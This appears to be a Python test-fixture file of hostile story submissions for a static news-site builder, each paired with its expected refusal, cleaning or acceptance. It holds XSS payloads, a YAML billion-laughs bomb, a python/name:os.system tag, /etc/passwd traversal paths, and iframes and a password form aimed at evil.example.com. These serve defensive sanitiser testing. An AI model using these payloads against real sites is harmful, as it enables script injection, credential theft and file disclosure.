"""Hostile and broken input: what a careless or malicious correspondent can send, one case each.

Every case is a story file `<id>.md` (with, where it needs them, files beside it) written
into `content/news/2024/` of the basic fixture; `{f}` in the expected lines stands for that
file's path as `gwsite check` names it, `{d}` for its folder. Outcomes:

- REFUSED: `gwsite check` and the build report exactly `expected` and fail; nothing is published.
- CLEANED: the story is published without what `expected` (a warning) says was removed.
- ACCEPTED: the story is published as written, with no problem reported.

Every payload that could run carries the marker GWXSS, so a scan of the built site can look
for any of them that survived.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field

import imaging

REFUSED, CLEANED, ACCEPTED = "refused", "cleaned", "accepted"

# One value that is markup in every context: an element, an attribute breaker, an entity.
PAYLOAD = '<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;'
HEAD = """\
---
title: {title}
date: 2024-03-01
unit: 安平县关工委
{extra}---

"""
BODY = "3月1日，安平县关工委召开全体会议，部署全年工作。\n"


def quoted(text: str) -> str:
    """A YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


_numbers = itertools.count(1)


def story(extra: str = "", body: str = BODY, title: str | None = None) -> str:
    """A valid story of 安平县关工委 with `extra` front-matter lines. Each gets its own title unless
    given one: many in one site, with one date and unit, would otherwise be copies of one story."""
    title = f"安平县关工委召开工作会议（{next(_numbers)}）" if title is None else title
    return HEAD.format(title=title, extra=extra) + body


def placement(**fields: str) -> str:
    lines = {"outlet": "青州日报", "date": "2024-03-02", **fields}
    return "placements:\n  - " + "\n    ".join(f"{key}: {value}" for key, value in lines.items()) + "\n"


@dataclass(frozen=True)
class Case:
    id: str
    content: str | bytes
    outcome: str
    expected: tuple[str, ...] = ()
    files: dict[str, bytes] = field(default_factory=dict)  # beside the story, by name
    shows: str | None = None  # CLEANED/ACCEPTED: text the published story page must show


def removed(line: int, *what: str, video: bool = False) -> str:
    message = f"{{f}}:{line}: 正文: 警告：正文中有不安全或网站不支持的 HTML，发布时已删除：{'、'.join(what)}"
    return message + ("；嵌入视频只能用网站允许的视频网站播放器地址（https）" if video else "")


def body(text: str) -> str:
    return story(body=BODY + "\n" + text + "\n")


ALLOWED = ("可以发布的只有页面（.md）、照片（.jpg、.png 等）、供下载的文档（.pdf、.docx、.xlsx 等）"
           "和 mkdocs.yml 中列出的文件（gwsite 的 static_files）")


def not_published(name: str, kind: str) -> str:
    return f"{{d}}/{name}:1: 文件: 网站不发布这种类型的文件（{kind}）：{ALLOWED}；请删除，或把照片放在 content/images/ 中"


def rename(name: str, to: str) -> str:
    return f"{{d}}/{name}:1: 文件: 稿件和页面的文件名须以 .md（小写）结尾，这个文件不会发布；请改名为 {to}"


def beside(case_id: str, name: str, data: bytes, *expected: str) -> Case:
    """A valid story with a file beside it that the site must not publish."""
    return Case(case_id, story(), REFUSED, expected, files={name: data})


FEED_REWRITE = ("<p><a title=\" src='/a/b/\">/../x\" onmouseover=\"alert('GWXSS')\" "
                "style=\"position:fixed;inset:0;background:#c00\" '</a></p>")


def fenced(closing: str, extra: str = "", opening: str = "---", **kwargs: str) -> str:
    """A story whose front-matter closes (or opens) with another line than `---`."""
    text = story(extra, **kwargs)
    return opening + text[3:].replace("\n---\n", f"\n{closing}\n", 1)


# A summary that Markdown would take a minute over, were it converted as body text (its brackets
# never nest, so YAML takes it).
BOMB = 'summary: "' + "]" * 20000 + "[" * 20000 + '"\n'
FENCE = "前后两条分隔线都应只写三个英文短横线 ---"

TRUNCATED_JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'GWXSS\')"><script>alert("GWXSS")</script></svg>'

CASES = [
    # -- Markup in every front-matter field that takes text: published, escaped exactly once.
    Case("xss-title", story(title=quoted(PAYLOAD)), ACCEPTED, shows=PAYLOAD),
    Case("xss-summary", story(f"summary: {quoted(PAYLOAD)}\n"), ACCEPTED, shows=PAYLOAD),
    Case("xss-authors", story(f"authors: [{quoted(PAYLOAD)}, 李红]\n"), ACCEPTED, shows=PAYLOAD),
    Case("xss-tags", story(f"tags: [{quoted('<i>GWXSS</i>')}]\n"), ACCEPTED, shows="<i>GWXSS</i>"),
    Case("xss-description", story(f"description: {quoted(PAYLOAD)}\n"), ACCEPTED),
    Case("xss-placement-section", story(placement(section=quoted(PAYLOAD))), ACCEPTED, shows=PAYLOAD),
    Case("xss-placement-url-quote", story(placement(url=quoted('https://www.qzrb.example.cn/a"onmouseover="alert(\'GWXSS\')'))),
         ACCEPTED),
    Case("xss-placement-outlet", story(placement(outlet=quoted("<i>GWXSS</i>日报"), level="市级")), ACCEPTED,
         ("{f}:6: placements[1].outlet: 提示：媒体“<i>GWXSS</i>日报”尚未列入媒体名录，待办公室核定级别后计分",),
         shows="<i>GWXSS</i>日报"),
    # -- Front-matter that is refused.
    Case("xss-category", story(f"category: {quoted(PAYLOAD)}\n"), REFUSED,
         ('{f}:5: category: 没有“<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;”这个栏目，'
          "可用的栏目有：工作动态、基层风采、五老风采、媒体聚焦、通知公告",)),
    Case("xss-unit", story().replace("unit: 安平县关工委", f"unit: {quoted(PAYLOAD)}"), REFUSED,
         ('{f}:4: unit: 未登记的单位“<b class="gwxss" onmouseover="alert(\'GWXSS\')">GWXSS</b> & "\'&amp;”，'
          "请使用 units.yml 中登记的单位名称（如该单位已撤销或合并，请勿从 units.yml 删除，应保留并加上 until: 最后一年，原有稿件仍计入其存在年度的排名）",)),
    Case("xss-slug", story('slug: "<script>x</script>"\n'), ACCEPTED),  # published at …/script-x-script/
    Case("placement-url-data", story(placement(url="'data:text/html,<script>alert(1)</script>'")), REFUSED,
         ("{f}:8: placements[1].url: 链接应以 http:// 或 https:// 开头，不是“data:text/html,<script>alert(1)</script>”",)),
    Case("placement-url-vbscript", story(placement(url="'vbscript:msgbox(1)'")), REFUSED,
         ("{f}:8: placements[1].url: 链接应以 http:// 或 https:// 开头，不是“vbscript:msgbox(1)”",)),
    Case("yaml-billion-laughs",
         story('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
               "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
               "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"),
         REFUSED, ("{f}:5: a: 不支持 YAML 锚点和引用（& 与 *），请把内容直接写出来",)),
    Case("yaml-merge-key", story("<<: {title: 覆盖的标题}\n"), REFUSED,
         ("{f}:5: <<: 不支持 YAML 合并键“<<”",)),
    Case("yaml-python-name", story("tags: !!python/name:os.system\n"), REFUSED,
         ("{f}:5: tags: 不允许使用 YAML 标签“!!python/name:os.system”，请删去它，只写普通的文字、数字或日期",)),
    Case("yaml-binary", story("summary: !!binary R0lGODlhAQABAAAAACw=\n"), REFUSED,
         ("{f}:5: summary: 不允许使用 YAML 标签“!!binary”，请删去它，只写普通的文字、数字或日期",)),
    Case("yaml-huge-key", story("x" * 2000 + ": 1\n"), REFUSED,
         ("{f}:5: " + "x" * 40 + "…: YAML 格式错误：这一行缺少“字段: 值”中的冒号，或上一行的引号、括号没有闭合",)),
    # -- Paths that reach outside content/.
    Case("cover-unc", story("cover: '\\\\server\\share\\a.jpg'\n"), REFUSED,
         ("{f}:5: cover: “\\\\server\\share\\a.jpg”是绝对路径或网址，应写相对于稿件文件的路径，如 images/wulao.jpg",)),
    Case("cover-file-url", story("cover: file:///etc/passwd\n"), REFUSED,
         ("{f}:5: cover: “file:///etc/passwd”是绝对路径或网址，应写相对于稿件文件的路径，如 images/wulao.jpg",)),
    Case("cover-deep-traversal", story("cover: images/../../../../../../etc/passwd\n"), REFUSED,
         ("{f}:5: cover: “images/../../../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
    Case("proof-traversal", story(placement(proof="../../../mkdocs.yml")), REFUSED,
         ("{f}:8: placements[1].proof: “../../../mkdocs.yml”指向网站内容目录之外，图片须放在 content 目录中",)),
    Case("body-image-traversal", body("![合影](../../../../etc/passwd)"), REFUSED,
         ("{f}:9: 正文: “../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
    Case("body-image-encoded-traversal", body("![合影](%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)"), REFUSED,
         ("{f}:9: 正文: “../../../../etc/passwd”指向网站内容目录之外，图片须放在 content 目录中",)),
    Case("body-html-image-traversal", body('<img src="../../../../../etc/hosts">'), REFUSED,
         ("{f}:9: 正文: “../../../../../etc/hosts”指向网站内容目录之外，图片须放在 content 目录中",)),
    # -- Images that are not what they claim.
    Case("cover-svg-script", story("cover: hostile.svg\n"), REFUSED,
         ("{f}:5: cover: SVG 等矢量图或网页文件可能带有脚本，网站不接受；请另存为 JPG 或 PNG 图片",),
         files={"hostile.svg": SVG}),
    Case("cover-html-as-jpg", story("cover: page.jpg\n"), REFUSED,
         ("{f}:5: cover: SVG 等矢量图或网页文件可能带有脚本，网站不接受；请另存为 JPG 或 PNG 图片",),
         files={"page.jpg": b"<html><script>alert('GWXSS')</script></html>"}),
    Case("cover-truncated-jpeg", story("cover: cut.jpg\n"), REFUSED,
         ("{f}:5: cover: “cut.jpg”的内容不是可识别的图片（可能是改了扩展名的其他文件，或已损坏）；请放入 JPG、PNG 或手机拍摄的 HEIC 照片",),
         files={"cut.jpg": TRUNCATED_JPEG}),
    Case("cover-empty-file", story("cover: empty.png\n"), REFUSED,
         ("{f}:5: cover: “empty.png”的内容不是可识别的图片（可能是改了扩展名的其他文件，或已损坏）；请放入 JPG、PNG 或手机拍摄的 HEIC 照片",), files={"empty.png": b""}),
    # -- Files beside the stories that MkDocs would copy as they are: only pages, photos and documents.
    beside("file-html", "file-html.html", b"<script>alert('GWXSS')</script>", not_published("file-html.html", ".html")),
    Case("file-html-draft-cover", story("draft: true\ncover: file-html-draft-cover.html\n"), REFUSED,
         (not_published("file-html-draft-cover.html", ".html"),),
         files={"file-html-draft-cover.html": b"<script>alert('GWXSS')</script>"}),
    beside("file-xhtml", "file-xhtml.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert("GWXSS")</script></html>',
           not_published("file-xhtml.xhtml", ".xhtml")),
    beside("file-js", "file-js.js", b"alert('GWXSS')", not_published("file-js.js", ".js")),
    beside("file-svg", "file-svg.svg", SVG,
           "{d}/file-svg.svg:1: 文件: SVG 图片可以带有脚本，网站不发布；请另存为 .png 或 .jpg 照片，放在 content/images/ 中"),
    beside("file-no-extension", "file-no-extension", b"<script>alert('GWXSS')</script>",
           not_published("file-no-extension", "没有扩展名")),
    beside("file-upper-md", "file-upper-md.MD", story(title="GWXSS 原文照发").encode(),
           rename("file-upper-md.MD", "file-upper-md.md")),
    beside("file-markdown", "file-markdown.markdown", story(title="会消失的稿件").encode(),
           rename("file-markdown.markdown", "file-markdown.md")),
    beside("file-notepad-txt", "file-notepad-txt.md.txt", story().encode(),
           rename("file-notepad-txt.md.txt", "file-notepad-txt.md")),
    beside("file-docx", "file-docx.docx", b"PK\x03\x04",
           "{d}/file-docx.docx:1: 文件: 稿件须为 Markdown 文件（.md），网站不发布 news 文件夹中的 Word/WPS 文档（.docx）；"
           "请把正文复制到 .md 稿件中（可用 gwsite new 新建），照片另存到 content/images/ 中；"
           "供下载的附件请放到 news 以外的文件夹，如 content/files/"),
    beside("file-pdf-in-news", "file-pdf-in-news.pdf", b"%PDF-1.4\n",
           "{d}/file-pdf-in-news.pdf:1: 文件: news 文件夹中只放稿件（.md）和照片；供下载的文档（.pdf）请放到 news "
           "以外的文件夹，如 content/files/，再从稿件链接过去"),
    Case("cover-many-scans", story("cover: scans.jpg\n"), REFUSED,
         ("{f}:5: cover: “scans.jpg”分成了超过 100 遍渐进扫描（正常的照片约 10 遍），解码会极慢，这样的文件可能是恶意构造的；"
          "请用看图软件另存为普通 JPEG，或换一张正常拍摄的照片",), files={"scans.jpg": imaging.many_scans_jpeg(2000)}),
    # -- Encodings and invisible characters.
    Case("utf16", story().encode("utf-16"), REFUSED,
         ("{f}:1: 编码: 文件不是 UTF-8 编码（可能是 GBK），请用记事本或 WPS“另存为”，编码选 UTF-8 后再提交",)),
    Case("invalid-utf8-in-body", story().encode() + b"\xc0\xaf\xff\n", REFUSED,
         ("{f}:8: 编码: 文件不是 UTF-8 编码（可能是 GBK），请用记事本或 WPS“另存为”，编码选 UTF-8 后再提交",)),
    Case("nul-bytes", story(body="全体会议\x00部署工作。\n"), CLEANED,
         ("{f}:7: 正文: 警告：有 1 个看不见的控制字符（常见于从 Word 粘贴的文字），网站和订阅源中已删去；"
          "请在原稿中删除后重新输入这些文字附近的标点或换行",), shows="全体会议部署工作。"),
    Case("bom", b"\xef\xbb\xbf" + story(title="带字节顺序标记的稿件").encode(), ACCEPTED, shows="带字节顺序标记的稿件"),
    Case("crlf", story(title="Windows 换行的稿件", body="第一段。\r\n\r\n第二段。\r\n").replace("\n", "\r\n").replace("\r\r", "\r").encode(),
         ACCEPTED, shows="第二段。"),
    Case("old-mac-cr", story(title="旧式换行的稿件").replace("\n", "\r").encode(), ACCEPTED, shows="旧式换行的稿件"),
    Case("bidi-override-title", story(title=quoted("会议\u202e纪要")), ACCEPTED, shows="会议\u202e纪要"),
    # -- Work without bound.
    Case("brackets-nested", body("[" * 20000 + "]" * 20000), REFUSED,
         ("{f}:9: 正文: 这一段有 20000 个方括号“[”，生成网页会极慢；方括号只用于链接和图片，如 [文字](网址)，请删去多余的",)),
    Case("brackets-images", body("![" * 8000), REFUSED,
         ("{f}:9: 正文: 这一段有 8000 个方括号“[”，生成网页会极慢；方括号只用于链接和图片，如 [文字](网址)，请删去多余的",)),
    # Python-Markdown reads raw HTML from each "<" to the ">" that ends it: 8,000 unclosed tags took
    # 9 s, 24,000 in paragraphs 90 s, all under the markup limit.
    *(Case(f"html-unclosed-{name}", body(text), REFUSED,
           ("{f}:9: 正文: 这里的“<”之后很长一段都没有对应的“>”，生成网页会极慢；HTML 标签要写完整，如 <b>文字</b>，"
            "要写小于号请写成 &lt;",))
      for name, text in (("tags", "x <b " * 8000), ("tags-in-paragraphs", ("x <b " * 60 + "\n\n") * 400))),
    Case("quotes-nested", body("\n".join(">" * depth + " 引文" for depth in range(1, 60))), REFUSED,
         ("{f}:41: 正文: 这一行的引用符号“>”和缩进嵌套了 33 层，超过 32 层的上限；请删去行首多余的“>”或空格",)),
    Case("lists-nested", body("\n".join("    " * depth + "- 要点" for depth in range(400))), REFUSED,
         ("{f}:42: 正文: 这一行的引用符号“>”和缩进嵌套了 33 层，超过 32 层的上限；请删去行首多余的“>”或空格",)),
    Case("markup-flood", body("*_" * 30000), REFUSED,
         ("{f}:7: 正文: 正文中的 Markdown 符号（* _ [ ] | < > 等）有 60000 个，超过 50000 个的上限，"
          "生成网页会极慢；请删去多余的符号，长表格请另做附件",)),
    # Fences MkDocs reads otherwise: it would convert the front-matter (and the bomb in it) as the body.
    Case("fence-four-dashes", fenced("----", BOMB), REFUSED,
         (f"{{f}}:6: front-matter: 结束的分隔线写成了“----”；{FENCE}",)),
    Case("fence-five-dashes-blanks", fenced("----- \t", BOMB), REFUSED,
         (f"{{f}}:6: front-matter: 结束的分隔线写成了“-----”；{FENCE}",)),
    Case("fence-dots", fenced("...", BOMB + "extra: |\n  x\n"), REFUSED,
         (f"{{f}}:8: front-matter: 结束的分隔线写成了“...”；{FENCE}",)),
    Case("fence-em-dashes", fenced("———", BOMB), REFUSED,
         (f"{{f}}:6: front-matter: 结束的分隔线写成了“———”；{FENCE}",)),
    Case("fence-bom", fenced("\ufeff---", BOMB), REFUSED,
         (f"{{f}}:6: front-matter: 结束的分隔线“---”前有看不见的字符；{FENCE}",)),
    Case("fence-crlf-bom-four-dashes", b"\xef\xbb\xbf" + fenced("----", BOMB).replace("\n", "\r\n").encode(), REFUSED,
         (f"{{f}}:6: front-matter: 结束的分隔线写成了“----”；{FENCE}",)),
    Case("fence-opening-four-dashes", fenced("---", BOMB, opening="----"), REFUSED,
         (f"{{f}}:1: front-matter: 开头的分隔线写成了“----”；{FENCE}",)),
    Case("fence-blanks-after-dashes", fenced("--- \t", title="分隔线后有空格的稿件"), ACCEPTED, shows="分隔线后有空格的稿件"),
    # Ends at the closing `---` with no line break: MkDocs would find no front-matter at all.
    Case("fence-at-end-of-file", story(BOMB, body="").rstrip("\n"), CLEANED,
         ("{f}:2: 正文: 警告：正文为空，请在第二个“---”之后写正文",)),
    # -- HTML in the body: removed, and the author told.
    Case("body-script", body("<script>alert('GWXSS')</script>"), CLEANED, (removed(9, "<script> 元素"),)),
    Case("body-style", body("<style>body{display:none}</style>"), CLEANED, (removed(9, "<style> 元素"),)),
    Case("body-onerror", body('<img src="/missing.jpg" onerror="alert(\'GWXSS\')">'), CLEANED,
         (removed(9, "onerror 事件属性"),)),
    Case("body-javascript-link", body("[点击查看](javascript:alert('GWXSS'))"), CLEANED, (removed(9, "javascript: 链接"),),
         shows="点击查看"),
    Case("body-javascript-entities", body('<a href="&#106;avascript:alert(\'GWXSS\')">详情</a>'), CLEANED,
         (removed(9, "javascript: 链接"),), shows="详情"),
    Case("body-javascript-tab", body('<a href="java\tscript:alert(\'GWXSS\')">详情</a>'), CLEANED,
         (removed(9, "javascript: 链接"),)),
    Case("body-data-image", body('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'), CLEANED,
         (removed(9, "data: 链接"),)),
    Case("body-iframe-foreign", body('<iframe src="https://evil.example.com/GWXSS"></iframe>'), CLEANED,
         (removed(9, "来自 evil.example.com 的 <iframe>", video=True),)),
    Case("body-iframe-http-video", body('<iframe src="http://player.bilibili.com/player.html?bvid=GWXSS"></iframe>'),
         CLEANED, (removed(9, "来自 player.bilibili.com 的 <iframe>", video=True),)),
    Case("body-iframe-video", body('<iframe src="https://player.bilibili.com/player.html?bvid=BV1xx411c7mD" '
                                   'allowfullscreen></iframe>'), ACCEPTED),
    # Judged as a browser reads the address: to a browser `\\` is `/`, so the host is evil.example.
    Case("body-iframe-backslash", body('<iframe src="https://evil.example\\@player.bilibili.com/GWXSS"></iframe>'),
         CLEANED, (removed(9, "来自 evil.example 的 <iframe>", video=True),)),
    # An allowed player is kept with its address as the browser writes it, the one that was judged.
    Case("body-iframe-video-uppercase", body('<iframe src="HTTPS://Player.Bilibili.COM/player.html?bvid=BV1xx411c7mD">'
                                             '</iframe>'), ACCEPTED),
    # Plain text that a rewrite of the cleaned HTML (making links absolute for the feeds) once
    # turned into an `<a onmouseover style>` covering the page.
    Case("body-text-becomes-markup", body(FEED_REWRITE), ACCEPTED),
    Case("body-object-embed", body('<object data="https://evil.example.com/x.swf"></object><embed src="x.swf">'),
         CLEANED, (removed(9, "<object> 标签", "<embed> 标签"),)),
    Case("body-form", body('<form action="https://evil.example.com/"><input type="password" name="p"></form>'),
         CLEANED, (removed(9, "<form> 标签", 'type="password" 的输入框'),)),
    Case("body-meta-refresh", body('<meta http-equiv="refresh" content="0;url=https://evil.example.com/">'),
         CLEANED, (removed(9, "<meta> 标签"),)),
    Case("body-base-href", body('<base href="https://evil.example.com/">'), CLEANED, (removed(9, "<base> 标签"),)),
    Case("body-svg-onload", body("<svg onload=\"alert('GWXSS')\"><circle r=\"5\"/></svg>"), CLEANED,
         (removed(9, "<svg> 标签", "<circle> 标签"),)),
    Case("body-attr-list-onclick", body("会议现场\n{: onclick=\"alert('GWXSS')\" }"), CLEANED,
         (removed(10, "onclick 事件属性"),), shows="会议现场"),
    Case("body-style-overlay", body('<p style="position:fixed;top:0;left:0;width:100%">GWXSS</p>'), CLEANED,
         (removed(9, "style 属性"),)),
    Case("body-noscript-mutation", body('<noscript><p title="</noscript><img src=/missing.jpg onerror=alert(\'GWXSS\')>"></noscript>'),
         CLEANED, (removed(9, "<noscript> 标签", "onerror 事件属性"),)),
    Case("body-comment-hidden-script", body("<!-- <script>alert('GWXSS')</script> -->正文结束。"), ACCEPTED),
    Case("body-code-shows-markup", body("`<script>alert('GWXSS')</script>`"), ACCEPTED,
         shows="<script>alert('GWXSS')</script>"),
    # -- Issue 21 (items 1, 5, 6): front-matter the theme reads; ids and classes that would redraw
    #    the theme; images from other sites.
    # Material put `author` raw in <meta name="author" content="…">: the attribute's end, then a script.
    Case("fm-author-alias", story("author: '\"><script>alert(\"GWXSS\")</script>'\n"), ACCEPTED,
         shows='"><script>alert("GWXSS")</script>'),
    Case("fm-template-redirect", story("template: redirect.html\nlocation: \"javascript:alert('GWXSS')\"\n"), REFUSED,
         ("{f}:5: template: 网站的版式由网站统一设定，稿件不能自选模板；请删去这一行",
          "{f}:6: location: 网站不支持页面跳转，请删去这一行；要指向别的网页，请在正文中写链接")),
    Case("fm-subtitle", story(f"subtitle: {quoted(PAYLOAD)}\nicon: ../../../etc/passwd\n"), REFUSED,
         ("{f}:5: subtitle: 稿件不在导航栏中，这一项不起作用；请删去这一行",
          "{f}:6: icon: 稿件不在导航栏中，这一项不起作用；请删去这一行")),
    Case("body-id-clobbers-config", body('<div id="__config">{"base": "https://evil.example.com/GWXSS"}</div>\n\n'
                                         "会议现场 {#__search}"), ACCEPTED, shows="会议现场"),
    Case("body-class-fake-login", body('<div class="md-dialog md-dialog--active admonition">请重新登录</div>'),
         CLEANED, (removed(9, "样式类“md-dialog”", "样式类“md-dialog--active”"),), shows="请重新登录"),
    Case("body-attr-list-class", body("会议现场\n{: .md-header .md-search }"), CLEANED,
         (removed(10, "样式类“md-header”", "样式类“md-search”"),), shows="会议现场"),
    *(Case(f"body-image-{name}", body(text), REFUSED,
           (f"{{f}}:{line}: 正文: 图片“{target}”在其他网站（img.example.cn）上，读者打开稿件时浏览器会去连接那个网站；"
            "请把照片下载后放进 content/images/ 目录，再从那里引用，如 ![图片说明](../../images/2024/照片.jpg)",))
      for name, text, line, target in (
          ("https", "![合影](https://img.example.cn/GWXSS.jpg)", 9, "https://img.example.cn/GWXSS.jpg"),
          ("http-alt-brackets", "![合影 [资料图]](http://img.example.cn/a.jpg)", 9, "http://img.example.cn/a.jpg"),
          ("reference", "![合影][1]\n\n[1]: https://img.example.cn/a.jpg", 9, "https://img.example.cn/a.jpg"),
          ("html-protocol-relative", '<img src="//img.example.cn/a.jpg">', 9, "//img.example.cn/a.jpg"),
          ("html-backslash", "<p><img src='/\\img.example.cn/a.jpg'></p>", 9, "/\\img.example.cn/a.jpg"),
          ("html-entity", '<img src="&#104;ttps://img.example.cn/a.jpg" alt="">', 9,
           "&#104;ttps://img.example.cn/a.jpg"),
          ("html-tab", '<IMG SRC="ht\ttps://img.example.cn/a.jpg">', 9, "ht\ttps://img.example.cn/a.jpg"),
          # A path on an https page, another site on an http one (the same portal served over http).
          ("scheme-no-slashes", "![合影](https:img.example.cn/a.jpg)", 9, "https:img.example.cn/a.jpg"),
          ("html-scheme-one-slash", '<img src="https:/img.example.cn/a.jpg">', 9, "https:/img.example.cn/a.jpg"),
      )),
    Case("body-link-to-other-site", body("[青州日报的报道](https://www.qzrb.example.cn/a.html)"), ACCEPTED,
         shows="青州日报的报道"),
]

REFUSED_CASES = [case for case in CASES if case.outcome == REFUSED]
PUBLISHED_CASES = [case for case in CASES if case.outcome != REFUSED]
